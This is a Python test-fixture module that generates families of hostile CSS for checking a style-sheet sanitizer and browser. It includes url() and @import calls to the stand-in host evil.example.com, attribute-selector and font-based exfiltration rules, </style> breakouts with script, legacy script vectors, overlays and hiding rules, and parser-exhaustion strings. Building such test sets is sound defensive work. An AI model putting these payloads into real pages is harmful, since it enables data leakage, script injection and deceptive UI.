"""Hostile style sheets, in families, for the reader and for a real browser.

Each tries to call out, to run something, to get out of its `<style>`, to cover or
hide what is the app's, or to exhaust whoever reads it.
"""

from itertools import product

TRAP = "https://evil.example.com"
COVER = "position:fixed;inset:0;width:100vw;height:100vh;z-index:99999;background:red"
TARGETS = (
    "#save", "#share", "#sharing", ".bar", ".bar *", ".act", ".act.save", ".foot",
    ".foot a", ".panel", ".panel *", ".note", "#in-app", ".page", ".side", "body",
    "html", ":root", "*", ".page *", ".page>*", ".side *", "main", "main a", "button",
    ".content~*", ".content+.foot", ".front~.back", ".turn", ".touch", ".stage",
    "a[href]", "[popovertarget]", ":not(.x)", ":is(#save,.name)", ":where(.bar)",
    ".my ~ *", ".x:where(.my *),.foot", "body:has(.my) .bar", "::backdrop",
    "#sharing:popover-open", "@scope", "html:has(#save) *", ".front", ".content",
    ".name", "section", ".name::before", ".content::after", ".front::after",
)  # fmt: skip
DAMAGES = (
    COVER, "display:none!important", "visibility:hidden", "opacity:0",
    "transform:translateY(-9999px) scale(99)", "margin:-9999px", "font-size:0",
)  # fmt: skip
CALLS = tuple(
    f"{name}:{value}"
    for name, value in product(
        ("background", "background-image", "border-image", "list-style", "cursor",
         "content", "mask", "filter", "src", "--ms-x", "clip-path", "fill"),
        (f"url({TRAP}/a)", f"url('{TRAP}/b')", f"image-set('{TRAP}/c' 1x)",
         f"u\\72l({TRAP}/d)", f"-webkit-image-set(url({TRAP}/e) 1x)", "url(//evil/f)",
         f"url(/**/{TRAP}/g)", f"src('{TRAP}/h')", "url(data:image/svg+xml,<svg/>)"),
    )
)  # fmt: skip
SHEETS = (
    f"@import '{TRAP}';", f"@import url({TRAP});", f"@\\69mport '{TRAP}';",
    f"@charset 'x';@import '{TRAP}';", f"@font-face{{font-family:x;src:url({TRAP})}}",
    f"@namespace url({TRAP});", f"@document url({TRAP}){{*{{color:red}}}}",
    "@layer x{*{display:none}}", "@property --x{syntax:'*';inherits:true}",
    "@page{margin:-9in}", "@container (width>0){.name{display:none}}",
    "@supports (color:red){.bar{display:none}}", "@scope (html){.bar{display:none}}",
    "@starting-style{.name{opacity:0}}", "@view-transition{navigation:auto}",
    "@media screen{@import 'x';.bar{display:none}}", "@media not print{*{display:none}}",
    "@media (width>0){body{display:none}}", "@media{.bar{display:none}}",
    "@keyframes x{to{visibility:hidden;opacity:0}}*{animation:x 1s infinite forwards}",
    "@keyframes my-x{to{opacity:0}}.name{animation:my-x 1ms forwards}",
    "@counter-style x{system:cyclic;symbols:'Save'}", "@font-palette-values --x{}",
    f"input[value^=a]{{background:url({TRAP}/a)}}", f"a:visited{{background:url({TRAP})}}",
    f"@font-face{{font-family:a;src:url({TRAP});unicode-range:U+61}}*{{font-family:a}}",
)  # fmt: skip
ESCAPES = (
    "</style><script>document.title='hit'</script>", "<!-- --></style><img src=x>",
    ".a{content:'</style><script>document.title=1</script>'}",
    ".a{font-family:'</style><script>alert(1)</script>'}", "]]></style><b>x</b>",
    "/*</style><script>document.title='hit'</script>*/", "</sTyLe/><script>1</script>",
    ".\\3c\\2fstyle\\3e{color:red}", ".a{--x:</style>}", "@media </style>{}",
    "@keyframes </style>{}", ".a{color:expression(alert(1))}", ".a{behavior:url(#x)}",
    ".a{-moz-binding:url(x)}", ".a{background:javascript:alert(1)}",
    ".a{content:'\\a}.bar{display:none}'}", ".a{}}.bar{display:none}", "}.bar{display:none}",
    ".a{color:red;}}}*{display:none}", ".a{content:'\n}.bar{display:none}/*'}",
    ".a{display:no\\6ee}", ".n\\61me{d\\69splay:none}", ".a{POSITION:FIXED}",
    ".a{pos/**/ition:fixed}", ".a{position:/**/fixed}", ".\\62 ar{display:none}",
    ".\x00bar{display:none}", "\ufeff.bar{display:none}", ".a{color:red\x00;}",
    "\ud800{color:red}", ".a{color:\U0001f4a5}", "&.bar{display:none}",
    ".front{& ~ .back{display:none}}", ".name{.bar &{display:none}}",
    ".front{}*{display:none}", ".my{}\\@import 'x'", "<!--.bar{display:none}-->",
    ".a{content:'Save contact'}", ".a::before{content:'🅂🄰🅅🄴'}", ".a{content:attr(href)}",
    ".a::after{content:counter(x) 'Sign in'}", ".name:has(~ *){display:none}",
)  # fmt: skip
BOMBS = (
    "{" * 19_000, "(" * 19_000, "[" * 19_000, "}" * 19_000, "a{" * 9_000,
    ".a{width:" + "calc(" * 3_000, ":not(" * 3_000, "@media(" * 2_500, "/*" * 9_000,
    "\\" * 19_000, "'" * 19_001, "a," * 9_000 + "a{color:red}", "." * 19_000,
    ".a{}" * 4_000, ".a{color:red}" * 1_500, ".a " * 5_000 + "{color:red}",
    "@media screen{" * 1_000, "@keyframes x{" * 1_000, "*" * 19_000, "-" * 19_000,
    ".a{margin:" + "1px " * 4_000 + "}", "x" * 25_000, ".a{--a:var(--b) var(--b)}",
    ".a{width:1e999px;margin:-1e999em;font-size:calc(1px*1e99)}", "url(" * 4_000,
    ".a{padding:calc(96px*10*10*10)}", ".a{width:9999999999999999999999px}",
    ":nth-child(99999999999999999999n+1){color:red}", "@" * 19_000, ";" * 19_000,
    ".a{order:" + "9" * 5_000 + "}", ":nth-child(n+" + "9" * 5_000 + "){color:red}",
    ".a{filter:" + "blur(99px) " * 500 + "}", ".a{box-shadow:" + "0 0 9px red," * 900,
    ".content{padding:96px;border:16px solid;box-shadow:0 0 48px 48px red}",
    ".content *{padding:96px;margin:96px;border:16px solid red;box-shadow:0 0 0 48px red}",
    ".front *{font-size:96px;padding:96px;margin:96px}", "*{translate:16px 16px;scale:1.25}",
    "*{opacity:.4;scale:.8;transform:scale(.8);translate:-16px;filter:contrast(.5)}",
    "*{min-width:640px;min-height:640px;rotate:45deg}", "section{order:-20;flex:12}",
    "body{background:black}.name{color:black}", ":root{--ms-ink:red;--ms-ground:red}",
    "dialog,[popover],.panel,:popover-open{display:block}", "*{display:block}",
)  # fmt: skip


def attacks() -> list[str]:
    """Return all of them, in a fixed order."""
    aimed = [f"{target}{{{damage}}}" for target, damage in product(TARGETS, DAMAGES)]
    calling = [f".name{{{call}}}" for call in CALLS]
    return [*aimed, *calling, *SHEETS, *ESCAPES, *BOMBS]
